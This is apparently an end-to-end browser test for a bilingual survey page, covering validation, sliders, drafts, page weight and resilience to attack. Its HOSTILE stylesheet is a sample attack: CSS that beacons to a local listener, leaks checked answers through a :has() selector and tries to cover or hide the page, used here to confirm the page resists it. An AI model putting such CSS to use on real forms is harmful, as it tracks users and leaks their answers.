# SPDX-License-Identifier: Apache-2.0
"""The survey page in Chromium: every kind of block, required and not, with and without scripts, in both languages;
sliders by keys, drafts, a page without its style, and a form whose style attacks the page."""
import argparse
import http.server
import pathlib
import shutil
import sys
import tempfile
import threading
import time

from playwright.sync_api import sync_playwright

import survey_world as world
from browser_story import Watch, answered_by_agent, look, sign_in, summary
from otklik_server import Server, until
from pages_story import check_html

# Over the wire, with style and script, without a logo.
WEIGHT_BYTES = 30 * 1024
REQUIRED = [kind + "_must" for kind in world.QUESTIONS]

HOSTILE = """
@import url("http://127.0.0.1:PORT/import.css");
@font-face { font-family: "Spy"; src: url("http://127.0.0.1:PORT/font.woff2"); }
:root, html, body, .bar, .above, header, main { display: none !important; visibility: hidden !important; }
:scope { position: fixed !important; inset: -100vh -100vw !important; z-index: 2147483647 !important; margin: -200vh !important;
  background: red url("http://127.0.0.1:PORT/track.png"); font-family: "Spy"; }
:scope::before { content: url("http://127.0.0.1:PORT/pixel.gif"); position: fixed; inset: 0; }
:scope:has(input[value="1"]:checked) { background-image: url("http://127.0.0.1:PORT/told?answer=1"); }
input[name^="q_"] { background: image-set(url("http://127.0.0.1:PORT/a.png") 1x); list-style: url("http://127.0.0.1:PORT/b.png"); cursor: url("http://127.0.0.1:PORT/c.cur"), auto; }
.block, fieldset, input, select, textarea { display: none !important; }
.away { position: static !important; width: auto !important; height: auto !important; }
@media (min-width: 1px) { * { pointer-events: none; } }
"""


def block(page, key):
    return page.locator(f".block:has([name='q_{key}'])")


def fill(page, language, scripted):
    """Answers every question, the optional ones as well; sliders by keys where scripts make them."""
    for kind in ("radio", "radio_horizontal", "yes_no", "yes_no_na"):
        for need in ("must", "may"):
            page.locator(f"[name='q_{kind}_{need}'][value='0']").check(force=True)
    for need in ("must", "may"):
        for value in ("0", "2"):
            page.locator(f"[name='q_checkbox_{need}'][value='{value}']").check()
        page.locator(f"[name='q_dropdown_{need}']").select_option("1")
        page.locator(f"[name='q_notes_{need}']").fill("Всё хорошо" if language == "ru" else "All is well")
    if not scripted:
        page.locator("[name='q_csat'][value='4']").check(force=True)
        page.locator("[name='q_slider_must'][value='9']").check(force=True)
        page.locator("[name='q_slider_may']").fill("55")
        return
    for key, keys, value in (("csat", ["Home", *["ArrowRight"] * 3], "4"), ("slider_must", ["End", "ArrowLeft"], "9"),
                             ("slider_may", ["ArrowRight"], "55")):
        slider = block(page, key).locator("input[type=range]")
        assert slider.get_attribute("aria-valuetext") in ("Не выбрано", "Not chosen"), f"{key} starts set"
        slider.focus()
        for one in keys:
            page.keyboard.press(one)
        given = page.evaluate(f"new FormData(document.getElementById('answers')).get('q_{key}')")
        assert given == value and slider.get_attribute("aria-valuetext") == value, (key, given)


def try_blocks(browser, server, folder, language, scripted, link, width):
    """Left empty, filled wrongly, filled: what was typed stays, and what is missing is said."""
    where = f"{language} {'with' if scripted else 'without'} scripts"
    context = browser.new_context(viewport={"width": width, "height": 800}, locale=language,
                                  java_script_enabled=scripted, color_scheme="light" if scripted else "dark")
    page = context.new_page()
    watch = Watch(page, server.address)

    def seen(name, reply=None):
        """Looks at a page; axe needs scripts, so what is shown without them is looked at by a browser with them."""
        html = reply.text() if reply else page.content()
        (folder / f"{language}-{scripted}-{name}.html").write_text(html)
        (folder / f"{language}-{scripted}-{name}.kind").write_text(f"{where} {name}")
        if scripted:
            look(page, f"{where} {name}")

    def send():
        with page.expect_navigation() as navigation:
            page.locator("#answers button[type=submit]").click()
        return navigation.value

    reply = page.goto(link)
    seen("open", reply)
    assert page.locator(":checked:not(option)").count() == 0, f"{where}: something is chosen"
    page.locator("[name='q_notes_may']").fill("Kept < & >")
    page.locator("[name='q_slider_may']").fill("33")
    reply = send()
    assert reply.status == 422, (where, reply.status)
    seen("wrong", reply)
    links = page.locator(".notice.bad a")
    assert links.count() == len(REQUIRED) + 1, f"{where}: {links.all_inner_texts()}"
    assert page.locator("[name='q_notes_may']").input_value() == "Kept < & >", f"{where}: entries are lost"
    assert page.locator("[name='q_slider_may']").input_value() == "33", f"{where}: entries are lost"
    assert page.locator(".block.wrong").count() == len(REQUIRED) + 1
    if scripted:
        for place, key in enumerate(REQUIRED[:7] + ["slider_may"]):
            links.nth(place).click()
            inside = page.evaluate(f"""document.activeElement.closest('.block')
                ?.querySelector("[name='q_{key}']") !== null""")
            assert inside, f"{where}: the link to {key} leads elsewhere"
        page.locator("[name='q_slider_may']").fill("")
    fill(page, language, scripted)
    time.sleep(2.2)  # What comes sooner is asked for once more (spec 3.5).
    reply = send()
    assert reply.status == 200, (where, reply.status, reply.text()[:600])
    assert world.pick(world.TEXTS["thanks"], language) in page.locator("main").inner_text()
    seen("thanks", reply)
    reply = page.goto(link)
    seen("answered", reply)
    assert not page.locator("form").count(), f"{where}: it can be answered twice"
    assert not context.cookies(), f"{where}: {context.cookies()}"
    if scripted:
        assert page.evaluate("localStorage.length") == 0, f"{where}: something was kept that nobody asked for"
    problems = [one for one in watch.problems if "422" not in one]
    assert not problems, f"{where}: {problems}"
    context.close()
    print(f"{where}: every block", flush=True)


def weigh(browser, link):
    """The page with its style and script over the wire, with an empty cache."""
    context = browser.new_context()
    page = context.new_page()
    session = context.new_cdp_session(page)
    session.send("Network.enable")
    sizes, own = {}, {}
    session.on("Network.requestWillBeSent", lambda event: own.update({event["requestId"]: event["request"]["url"]}))
    session.on("Network.loadingFinished", lambda event: sizes.update({event["requestId"]: event["encodedDataLength"]}))
    page.goto(link, wait_until="networkidle")
    context.close()
    # What browsers ask for by themselves is no part of the page.
    sizes = [size for request, size in sizes.items() if not own.get(request, "").endswith("/favicon.ico")]
    assert len(sizes) == 3 and sum(sizes) < WEIGHT_BYTES, f"the page weighs {sizes}"
    print(f"{sum(sizes) / 1024:.1f} KB over the wire in {len(sizes)} requests", flush=True)


def look_without_style(browser, link):
    context = browser.new_context(viewport={"width": 320, "height": 800}, java_script_enabled=False)
    page = context.new_page()
    page.route("**/*.css", lambda route: route.abort())
    page.goto(link)
    assert page.locator("h1").is_visible() and page.locator("button[type=submit]").is_visible()
    for field in page.locator("[name^=q_]").all():
        assert field.is_visible(), field.evaluate("(one) => one.outerHTML")
    assert not page.locator("#draft").is_visible(), "a draft is offered that nobody can keep"
    context.close()
    print("without style: shown", flush=True)


def keep_draft(browser, link):
    """A draft is kept when it is asked for, comes back, and is gone after sending."""
    context = browser.new_context(locale="en")
    page = context.new_page()
    page.goto(link)
    page.locator("[name='q_notes_may']").fill("Not asked for")
    assert page.evaluate("localStorage.length") == 0
    page.locator("#draft input").check()
    page.locator("[name='q_notes_must']").fill("Half a thought")
    page.locator("[name='q_dropdown_must']").select_option("2")
    page.locator("[name='q_checkbox_may'][value='1']").check()
    block(page, "csat").locator("input[type=range]").press("End")
    page.close()
    page = context.new_page()
    page.goto(link)
    assert page.locator("[name='q_notes_must']").input_value() == "Half a thought"
    assert page.locator("[name='q_dropdown_must']").input_value() == "2"
    assert page.locator("[name='q_checkbox_may'][value='1']").is_checked()
    assert block(page, "csat").locator("input[type=range]").get_attribute("aria-valuetext") == "5"
    assert page.locator("#draft [role=status]").inner_text()
    # In another language options have other places: nothing is filled in.
    page.goto(link + "?lang=ru")
    assert page.locator("[name='q_notes_must']").input_value() == ""
    page.goto(link + "?lang=en")
    # A week later it is gone.
    page.evaluate("""for (const key of Object.keys(localStorage)) {
        const kept = JSON.parse(localStorage.getItem(key));
        localStorage.setItem(key, JSON.stringify({ ...kept, at: Date.now() - 8 * 86_400_000 }));
    }""")
    page.goto(link)
    assert page.locator("[name='q_notes_must']").input_value() == "" and page.evaluate("localStorage.length") == 0
    page.locator("#draft input").check()
    fill(page, "en", True)
    time.sleep(2.2)
    page.locator("#answers button[type=submit]").click()
    page.get_by_text(world.TEXTS["thanks"][1]).wait_for()
    page.wait_for_function("localStorage.length === 0")
    assert not context.cookies()
    context.close()
    print("draft: kept, restored, gone", flush=True)


def press_everything(browser, link):
    """A program presses whatever can be pressed, at once; then the person answers."""
    context = browser.new_context(locale="ru")
    page = context.new_page()
    page.goto(link)
    with page.expect_navigation() as navigation:
        page.evaluate("""(() => {
            for (const one of document.querySelectorAll('input, select, textarea')) {
                if (one.type === 'radio' || one.type === 'checkbox') one.click();
                else if (one.tagName === 'SELECT') one.selectedIndex = 1;
                else if (one.type === 'number') one.value = '50';
                else if (one.type !== 'hidden') one.value = 'x';
            }
            for (const one of document.querySelectorAll('button')) one.click();
        })()""")
    assert navigation.value.status == 422, navigation.value.status
    page.get_by_text("Нажмите «Отправить» ещё раз").wait_for()
    look(page, "press again")
    # The page has kept what was entered, and the person's second press counts.
    assert page.locator("[name='q_notes_must']").input_value() == "x"
    time.sleep(2.2)
    with page.expect_navigation() as navigation:
        page.locator(".notice button").click()
    assert navigation.value.status == 200, navigation.value.status
    context.close()
    print("everything pressed at once: put aside, then counted", flush=True)


class Listener:
    """Where a hostile style would like to be heard: notes whatever is asked of it."""

    def __init__(self):
        heard = self.heard = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                heard.append(self.path)
                self.send_response(404)
                self.end_headers()

            def log_message(self, *arguments):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def attack(browser, link, listener):
    """A form's style loads nothing, covers nothing of ours, and hides nothing that says what is wrong."""
    context = browser.new_context(viewport={"width": 390, "height": 800}, locale="ru")
    page = context.new_page()
    page.goto(link, wait_until="networkidle")
    # The style is there, and does to the form what it likes.
    assert not page.locator("[name='q_notes_must']").is_visible()

    def frame_stands():
        for name in (".bar", ".bar .centre", ".bar .languages a"):
            one = page.locator(name).first
            assert one.is_visible(), f"{name} is hidden"
            box = one.bounding_box()
            on_top = page.evaluate(
                "([x, y]) => document.elementFromPoint(x, y)?.closest('.bar') !== null",
                [box["x"] + box["width"] / 2, box["y"] + box["height"] / 2])
            assert on_top, f"{name} is covered"

    frame_stands()
    with page.expect_navigation() as navigation:
        page.evaluate("document.getElementById('answers').submit()")
    assert navigation.value.status == 422
    frame_stands()
    assert page.locator(".notice.bad").is_visible(), "what is missing is hidden"
    page.locator(".bar .languages a").first.click()
    page.wait_for_url("**?lang=en")
    page.wait_for_load_state("networkidle")
    assert not listener.heard, listener.heard
    context.close()
    print("a hostile style: no request, the frame stands", flush=True)


def look_at_answers(browser, server, demo, name):
    """Counted and quarantined stand apart, the numbers are right, and another answer can count."""
    context = browser.new_context(viewport={"width": 1440, "height": 900}, locale="ru")
    page = context.new_page()
    sign_in(page, server, demo, "administrator")
    page.goto(server.address + "/answers")
    page.get_by_role("link", name=name, exact=True).click()
    page.wait_for_url("**/answers")
    look(page, "answers")
    rows = page.locator("tbody tr")
    assert rows.count() == 7, rows.all_inner_texts()
    assert page.locator(".badge.good").count() == 6 and page.locator(".badge.warning").count() == 1
    page.locator("nav.tabs a").nth(1).click()
    page.wait_for_url("**/distribution**")
    look(page, "distribution")
    solved = page.locator(".spread").filter(has_text="FCR")
    assert solved.count() == 1, "languages are apart"
    text = solved.inner_text()
    assert "n\u00a0=\u00a06" in text, text
    csat = page.locator(".spread").filter(has_text="CSAT").inner_text()
    assert "4,00" in csat and "n\u00a0=\u00a05" in csat, csat
    context.close()
    print("answers: counted and put aside, spread over both languages", flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--assets", help="read pages' files from this folder")
    options = parser.parse_args()
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    with tempfile.TemporaryDirectory(prefix="otklik-survey-") as data, sync_playwright() as playwright:
        folder = pathlib.Path(data) / "pages"
        folder.mkdir()
        server = Server(f"{data}/data", extra=["--assets", options.assets] if options.assets else []).start()
        try:
            browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
            walk(browser, server, folder)
            browser.close()
        finally:
            server.stop()


def walk(browser, server, folder):
    demo = server.demo()
    name = world.change_form(server, **world.content())
    number = 0
    for language in ("ru", "en"):
        for scripted in (True, False):
            number += 1
            link = world.customer(server, number, language)
            try_blocks(browser, server, folder, language, scripted, link, 320 if scripted else 390)
    until("the report", lambda: answered_by_agent(server) == 4)
    fields = summary(server)["rows"][0]["fields"]
    found = {key: (fields[key]["n"], fields[key][figure])
             for key, figure in (("fcr", "share"), ("nps", "score"), ("csat", "mean"))}
    assert found == {"fcr": (4, 1), "nps": (4, 100), "csat": (4, 4)}, found
    link = world.customer(server, 10, "en")
    weigh(browser, link)
    look_without_style(browser, link)
    keep_draft(browser, link)
    press_everything(browser, world.customer(server, 11, "ru"))
    look_at_answers(browser, server, demo, name)
    faults = check_html(folder)
    assert not faults, "\n".join(faults)
    listener = Listener()
    world.change_form(server, **world.content(css=HOSTILE.replace("PORT", str(listener.port))))
    attack(browser, world.customer(server, 12, "ru"), listener)


if __name__ == "__main__":
    try:
        main()
    except AssertionError as error:
        sys.exit(str(error))
